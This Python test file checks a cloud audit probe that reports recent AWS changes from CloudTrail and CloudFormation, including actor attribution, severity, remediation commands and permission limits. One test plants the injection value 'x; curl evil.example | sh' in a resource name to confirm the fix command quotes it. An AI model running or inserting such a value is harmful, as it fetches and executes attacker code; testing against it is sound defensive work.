"""Who changed what, and what only looks like a change."""

import hashlib
import itertools
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from cloudprobe.emulator.access import AccountAccess
from cloudprobe.emulator.account import EmbeddedAccount
from cloudprobe.emulator.worlds.building import Site, allow, deny
from cloudprobe.emulator.worlds.building.answers import record_answer
from cloudprobe.emulator.worlds.building.trail import Trail, by_role, by_root, by_service, by_user
from cloudprobe.guard.validation import ProbeDraft, validate
from cloudprobe.templates.extraction import extract_variables
from cloudprobe.templates.registry import TemplateLibrary
from tests.templates.meddler import Answer, Request, meddling, query_error
from tests.templates.probe_runs import ProbeRun, restricted, run_plain, run_probe

TEMPLATE = "recent_changes"
HOME = {"regions": ["us-east-1"]}
NOW = datetime.now(UTC)  # noqa: TID251 - as the account dates

# What stands for each group of events: kind of finding and severity.
TOLD = {
    "sg-0a1b2c3d4e5f60718": ("change-grave", "high"),
    "main-trail": ("change-grave", "high"),
    "deployer": ("change-grave", "high"),
    "orders": ("change-made", "low"),
    "old-reports": ("change-made", "medium"),
    "billing": ("change-grave", "high"),
    "secrets": ("change-failed", "low"),
}


def _history(site: Site) -> None:
    trail, name = Trail(site), site.name
    alice, bob = by_user(site, "alice"), by_user(site, "bob")
    pipeline = by_role(site, "pipeline", session="build-17")
    world = {
        "groupId": "sg-0a1b2c3d4e5f60718",
        "ipPermissions": {"items": [{"ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]},
    }
    trail.event("AuthorizeSecurityGroupIngress", alice, service="ec2", parameters=world, ago=timedelta(hours=2))
    trail.event("StopLogging", bob, service="cloudtrail", parameters={"name": name("main-trail")})
    trail.event("CreateAccessKey", bob, service="iam", resource=name("deployer"), kind="AWS::IAM::User")
    for minutes in (30, 20, 10):
        trail.event(
            "UpdateFunctionCode20150331v2", pipeline, service="lambda", ago=timedelta(minutes=minutes),
            parameters={"functionName": name("orders")},
        )  # fmt: skip
    trail.event("DeleteBucket", alice, service="s3", resource=name("old-reports"), kind="AWS::S3::Bucket")
    trail.event("PutBucketTagging", by_root(site), service="s3", resource=name("billing"), kind="AWS::S3::Bucket")
    trail.event(
        "PutKeyPolicy", alice, service="kms", resource=name("secrets"), kind="AWS::KMS::Key", error="AccessDenied"
    )
    # Not changes anybody made:
    linked = by_role(
        site, "AWSServiceRoleForAutoScaling", session="AutoScaling", path="/aws-service-role/autoscaling.amazonaws.com/"
    )
    trail.event("TerminateInstances", linked, service="ec2", parameters={"instanceId": "i-0aaaaaaaaaaaaaaaa"})
    trail.event("RotateKey", by_service("kms.amazonaws.com"), service="kms")
    trail.event(
        "CreateLogStream", by_role(site, "worker", session="fn"), service="logs", parameters={"logGroupName": "/x"}
    )
    trail.event("ConsoleLogin", alice, service="signin")
    trail.event("DescribeInstances", bob, service="ec2", read_only=True)
    trail.event("DeleteTable", bob, service="dynamodb", resource="long-ago", ago=timedelta(days=3))
    trail.record()


@dataclass(frozen=True)
class Looked:
    run: ProbeRun
    site: Site
    access: AccountAccess

    @property
    def claimed(self) -> dict[str, tuple[str, str]]:
        logical = {self.site.name(name): name for name in TOLD}
        found = [f for f in self.run.result.findings if f.id != "change-routine"]
        assert len({f.resource for f in found}) == len(found)
        return {logical.get(f.resource, f.resource): (f.id, f.severity.value) for f in found}

    def about(self, logical: str) -> Any:
        (found,) = [f for f in self.run.result.findings if f.resource == self.site.name(logical)]
        return found


def _names(kind: str) -> Callable[[str], str]:
    def renamed(logical: str) -> str:
        if kind == "own" or logical.startswith("sg-"):
            return logical
        return "x" + hashlib.sha256(logical.encode()).hexdigest()[:20]

    return renamed


def _look(account: EmbeddedAccount, naming: str) -> Looked:
    access = account.second_account()
    site = Site(access.client, _names(naming))
    _history(site)
    return Looked(run_probe(TEMPLATE, access, HOME), site, access)


@pytest.fixture(scope="module")
def looked(embedded_account: EmbeddedAccount) -> Looked:
    return _look(embedded_account, "own")


def test_tells_every_change_and_no_more(looked: Looked) -> None:
    assert looked.claimed == TOLD


@pytest.mark.full
def test_whatever_things_are_called_it_says_the_same(embedded_account: EmbeddedAccount) -> None:
    assert _look(embedded_account, "renamed").claimed == TOLD


def test_says_who_did_what_and_when(looked: Looked) -> None:
    opened = looked.about("sg-0a1b2c3d4e5f60718")
    assert opened.title.startswith("user alice changed sg-0a1b2c3d4e5f60718: AuthorizeSecurityGroupIngress at 20")
    assert "from 203.0.113.7" in opened.title
    assert "It opens a port to the world." in opened.title
    deployed = looked.about("orders")
    assert (
        "role pipeline (session build-17) changed orders: UpdateFunctionCode20150331v2 (3 times) from "
        in deployed.title
    )
    assert len(deployed.evidence) == 3
    assert "the root user changed billing" in looked.about("billing").title
    assert "tried PutKeyPolicy on secrets" in looked.about("secrets").title


def test_what_is_let_out_to_the_world_opens_nothing_to_it(clean_account: AccountAccess) -> None:
    site = Site(clean_account.client, lambda logical: logical)
    trail, alice = Trail(site), by_user(site, "alice")
    rules = {"items": [{"ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}
    for name, group in (("AuthorizeSecurityGroupEgress", "sg-0a"), ("RevokeSecurityGroupIngress", "sg-0b")):
        trail.event(name, alice, service="ec2", parameters={"groupId": group, "ipPermissions": rules})
    trail.record()
    run = run_probe(TEMPLATE, clean_account, HOME)
    assert len(run.result.findings) == 2
    assert not [f for f in run.result.findings if "to the world" in f.title or f.severity.value == "high"]


def test_counts_add_up_and_the_limits_are_said(looked: Looked) -> None:
    facts = looked.run.document["facts"]
    assert facts["changes"] == 8
    assert facts["failed_attempts"] == 1
    assert facts["routine_events"] == 4
    assert facts["write_events_read"] == 13
    assert facts["by_whom"] == {
        "role pipeline (session build-17)": 3, "the root user": 1, "user alice": 2, "user bob": 2,
    }  # fmt: skip
    assert facts["timeline"][0]["did"] == "AuthorizeSecurityGroupIngress"
    assert "90 days" in facts["limits"]
    assert "15 minutes" in facts["limits"]
    assert "the last 15 minutes may be missing" in looked.run.result.summary
    assert "8 changes to 6 things by " in looked.run.result.summary
    assert looked.run.result.coverage.skipped == ()


def test_what_services_do_by_themselves_is_info(looked: Looked) -> None:
    routine = {
        f.title.split(" did ")[0]: f.severity.value for f in looked.run.result.findings if f.id == "change-routine"
    }
    assert routine == {
        "role AWSServiceRoleForAutoScaling (session AutoScaling)": "info", "kms.amazonaws.com": "info",
        "role worker (session fn)": "info", "user alice": "info",
    }  # fmt: skip


def test_every_claim_points_at_its_events(looked: Looked) -> None:
    names = {event["EventName"] for event in looked.run.cited()}
    assert {"StopLogging", "DeleteBucket", "PutKeyPolicy", "TerminateInstances"} <= names
    assert not {"DescribeInstances", "DeleteTable"} & names


def test_offers_what_undoes_it_or_shows_all_of_it(looked: Looked) -> None:
    assert looked.about("main-trail").fix.endswith("aws cloudtrail start-logging --region us-east-1 --name main-trail")
    opened = looked.about("sg-0a1b2c3d4e5f60718")
    assert "aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventId" in opened.fix
    assert looked.run.document["next"] == [
        {"template": "ec2_open_security_groups", "variables": {"group": "sg-0a1b2c3d4e5f60718"}}
    ]


@pytest.mark.parametrize(
    ("variables", "told"),
    [
        ({"user": "bob"}, {"main-trail", "deployer"}),
        ({"user": "Pipeline"}, {"orders"}),
        ({"resource": "SG-0a1b"}, {"sg-0a1b2c3d4e5f60718"}),
        ({"resource": "reports"}, {"old-reports"}),
        ({"hours": 96, "user": "bob"}, {"main-trail", "deployer", "long-ago"}),
        ({"start": (NOW - timedelta(minutes=35)).isoformat()}, {"orders"}),
        ({"start": (NOW - timedelta(hours=3)).isoformat(), "end": (NOW - timedelta(minutes=90)).isoformat()}, {"sg-0a1b2c3d4e5f60718"}),
        ({"resource": "no-such-thing"}, set()),
    ],
)  # fmt: skip
def test_narrows_to_a_window_a_name_or_a_person(looked: Looked, variables: dict[str, Any], told: set[str]) -> None:
    run = run_probe(TEMPLATE, looked.access, {**HOME, **variables})
    assert {f.resource for f in run.result.findings if f.id != "change-routine"} == told
    if not told:
        assert "no change of 'no-such-thing' among 13 write events" in run.result.summary


def test_asks_each_region_twice_and_no_more(looked: Looked) -> None:
    assert looked.run.operations == {"cloudtrail:LookupEvents": 1, "cloudformation:ListStacks": 1}
    run = run_probe(TEMPLATE, looked.access, {"regions": ["eu-west-1"]})
    assert run.result.findings == ()
    assert run.result.coverage.skipped[0].what == "changes of IAM and other global services"
    assert run_plain(TEMPLATE, looked.access).findings


def test_reads_every_page_up_to_a_limit(clean_account: AccountAccess) -> None:
    site = Site(clean_account.client, lambda logical: logical)
    trail = Trail(site)
    for n in range(120):
        trail.event(
            "PutParameter", by_user(site, "carol"), service="ssm", resource=f"p-{n}", ago=timedelta(minutes=n + 1)
        )
    trail.record()
    run = run_probe(TEMPLATE, clean_account, HOME)
    assert run.operations["cloudtrail:LookupEvents"] == 3
    assert run.document["facts"]["changes"] == 120
    assert run.result.coverage.truncated == ()
    short = run_probe(TEMPLATE, clean_account, {**HOME, "max_events": 100})
    assert short.document["facts"]["changes"] == 100
    assert short.result.coverage.truncated[0].startswith("events in us-east-1 before ")


def test_many_denials_of_one_caller_weigh_more(clean_account: AccountAccess) -> None:
    site = Site(clean_account.client, lambda logical: logical)
    trail = Trail(site)
    for n in range(6):
        trail.event(
            "PutItem" if n % 2 else "UpdateTable",
            by_user(site, "mallory"),
            service="dynamodb",
            resource="t",
            error="AccessDeniedException",
        )
    trail.record()
    run = run_probe(TEMPLATE, clean_account, HOME)
    assert [(f.id, f.severity.value) for f in run.result.findings] == [("change-failed", "medium")]
    assert "no change among 6 write events" in run.result.summary
    assert "6 attempts failed" in run.result.summary


def test_tells_stacks_that_changed_and_why_one_failed(clean_account: AccountAccess) -> None:
    site = Site(clean_account.client, lambda logical: logical)
    cloudformation = clean_account.client("cloudformation")
    body = json.dumps({"Resources": {"Queue": {"Type": "AWS::SQS::Queue"}, "Topic": {"Type": "AWS::SNS::Topic"}}})
    for stack in ("shop", "broken"):
        cloudformation.create_stack(StackName=stack, TemplateBody=body)
        cloudformation.get_waiter("stack_create_complete").wait(StackName=stack, WaiterConfig={"Delay": 1})
    overlay = {
        "StackEvents[LogicalResourceId=Queue]": {
            "ResourceStatus": "CREATE_FAILED",
            "ResourceStatusReason": "Too many queues",
        }
    }
    broken = next(s["StackId"] for s in cloudformation.list_stacks()["StackSummaries"] if s["StackName"] == "broken")
    record_answer(
        clean_account.client, "cloudformation", "DescribeStackEvents", parameters={"StackName": broken}, overlay=overlay
    )
    rolled_back = {"StackSummaries[StackName=broken].StackStatus": "ROLLBACK_COMPLETE"}
    record_answer(clean_account.client, "cloudformation", "ListStacks", overlay=rolled_back)
    trail = Trail(site)
    trail.event("CreateStack", by_user(site, "dora"), service="cloudformation", parameters={"stackName": "shop"})
    trail.record()
    run = run_probe(TEMPLATE, clean_account, HOME)
    stacks = {f.resource.split("/")[1]: f for f in run.result.findings if f.id.startswith("stack")}
    assert {name: (f.id, f.severity.value) for name, f in stacks.items()} == {
        "shop": ("stack-changed", "low"), "broken": ("stack-change-failed", "medium"),
    }  # fmt: skip
    assert "CREATE_COMPLETE by user dora: 2 resources touched" in stacks["shop"].title
    assert stacks["broken"].title.endswith("Queue failed: Too many queues")
    assert {"CREATE_FAILED"} == {
        v["ResourceStatus"] for v in run.cited() if v.get("LogicalResourceId") == "Queue" and "broken" in v["StackId"]
    }
    assert "2 stacks changed: " in run.result.summary


def test_without_cloudtrail_stacks_still_tell_and_it_is_said(looked: Looked) -> None:
    reader = restricted(looked.access, "trailless", allow("*", "*"), deny("cloudtrail:*", "*"))
    run = run_probe(TEMPLATE, reader, HOME)
    assert [s.what for s in run.result.coverage.skipped] == ["CloudTrail events in us-east-1"]
    assert run.result.findings == ()


def test_allowed_nothing_it_claims_nothing(clean_account: AccountAccess) -> None:
    with pytest.raises(AssertionError, match="Nothing could be looked at"):
        run_probe(TEMPLATE, restricted(clean_account, "nobody", allow("sts:*", "*")), HOME)


def test_the_derived_policy_is_enough(looked: Looked) -> None:
    verdict = validate(ProbeDraft(script=TemplateLibrary.builtin().get(TEMPLATE).script))
    assert verdict.findings == ()
    reader = restricted(looked.access, "minimal", *verdict.policy["Statement"])
    run = run_probe(TEMPLATE, reader, HOME)
    assert run.verdict == looked.run.verdict
    assert run.result.coverage.skipped == ()


def test_survives_being_throttled(looked: Looked) -> None:
    refused: list[Any] = []
    serial = itertools.count()

    def throttle(request: Request) -> Answer | None:
        if request.body.startswith(b"{") and b"LookupAttributes" in request.body and len(refused) < 2:
            refused.append(request)
            error = {"__type": "ThrottlingException", "message": "Slow down."}
            return Answer(400, json.dumps(error).encode(), {"x-amzn-requestid": f"throttled-{next(serial)}"})
        return None

    with meddling(looked.access, throttle) as meddled:
        run = run_probe(TEMPLATE, meddled, HOME)
    assert len(refused) == 2
    assert run.verdict == looked.run.verdict


def test_a_region_that_is_switched_off_is_said_and_not_counted(looked: Looked) -> None:
    serial = itertools.count()

    def off(request: Request) -> Answer | None:
        if request.region != "me-south-1":
            return None
        number = next(serial)
        if request.body.startswith(b"{"):
            error = {"__type": "UnrecognizedClientException", "message": "Meddled."}
            return Answer(400, json.dumps(error).encode(), {"x-amzn-requestid": f"off-{number}"})
        return query_error("InvalidClientTokenId", status=403, request_id=f"off-{number}")

    with meddling(looked.access, off) as meddled:
        run = run_probe(TEMPLATE, meddled, {"regions": ["us-east-1", "me-south-1"]})
    assert run.result.coverage.regions == ("us-east-1",)
    assert {s.what for s in run.result.coverage.skipped} == {
        "CloudTrail events in me-south-1", "stack events in me-south-1",
    }  # fmt: skip
    assert all("the region is not enabled" in s.why for s in run.result.coverage.skipped)


def test_events_before_the_history_are_said_to_be_out_of_reach(looked: Looked) -> None:
    run = run_probe(TEMPLATE, looked.access, {**HOME, "start": (NOW - timedelta(days=200)).isoformat()})
    assert "the event history holds 90 days" in {s.why for s in run.result.coverage.skipped}


def test_the_accounts_own_history_is_read_too(clean_account: AccountAccess) -> None:
    clean_account.client("sqs").create_queue(QueueName="brand-new")
    for role in ("cloudprobe-20261124-080012-9cf6a5ec-1-1-0", "cloudprobe-back-door"):
        clean_account.client("iam").create_role(RoleName=role, AssumeRolePolicyDocument="{}")
    run = run_probe(TEMPLATE, clean_account, HOME)
    changed = {f.resource for f in run.result.findings if f.id == "change-made"}
    assert changed == {"brand-new", "cloudprobe-back-door"}  # a name alone excuses nothing


def test_a_name_never_becomes_part_of_a_command(clean_account: AccountAccess) -> None:
    trail = Trail(Site(clean_account.client, lambda logical: logical))
    by = by_user(Site(clean_account.client, lambda logical: logical), "eve")
    trail.event("StopLogging", by, service="cloudtrail", parameters={"name": "x; curl evil.example | sh"})
    trail.record()
    (found,) = run_probe(TEMPLATE, clean_account, HOME).result.findings
    assert found.fix.endswith("--name 'x; curl evil.example | sh'")


@pytest.mark.parametrize(
    ("asked", "expected"),
    [
        ("What changed since yesterday 3 pm UTC?", {"start": "2026-11-23T15:00:00+00:00", "end": "2026-11-24T08:00:00+00:00"}),
        ("What did the user alice change in the last 6 hours?", {"start": "2026-11-24T02:00:00+00:00", "end": "2026-11-24T08:00:00+00:00", "user": "alice"}),
        ("Who changed sg-0123456789abcdef0 in eu-west-1?", {"resource": "sg-0123456789abcdef0", "regions": ["eu-west-1"]}),
        ("What changed recently?", {}),
    ],
)  # fmt: skip
def test_reads_a_question(asked: str, expected: dict[str, Any]) -> None:
    now = datetime(2026, 11, 24, 8, 0, tzinfo=UTC)
    assert extract_variables(asked, TemplateLibrary.builtin().get(TEMPLATE).variables, now=now) == expected
